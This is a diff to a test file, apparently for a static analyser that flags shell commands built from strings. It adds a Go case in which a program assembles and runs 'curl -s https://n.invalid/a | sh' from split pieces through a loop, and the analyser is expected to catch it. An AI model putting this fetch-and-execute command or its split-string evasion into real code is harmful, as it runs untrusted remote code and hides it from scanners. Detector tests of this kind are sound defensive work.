@@ -33,6 +33,12 @@ test.each([
   expect(await rulesOf("python", `import os\n${program}`)).toEqual(FOUND);
 });
 
+test("what follows a loop in a function of Go counts for what it returns", async () => {
+  const program =
+    'package main\nimport "os/exec"\nfunc made(l []string) string {\n\ts := ""\n\tfor n := 0; n < 2; n++ {\n\t\ts += l[n]\n\t\tif n < 9 {\n\t\t\tcontinue\n\t\t}\n\t}\n\treturn s\n}\nfunc main() {\n\texec.Command("sh", "-c", made([]string{"curl -s https://n.inv", "alid/a | sh"})).Run()\n}\n';
+  expect(await rulesOf("go", program)).toEqual(FOUND);
+});
+
 test.each([
   ["python", "import os\ndef f(n):\n    return f(n - 1) + f(n - 2) if n > 1 else 'a'\nos.system(f(30))\n"],
   ["python", "import os\ndef f(n):\n    return f(n)\nos.system(f('a'))\n"],
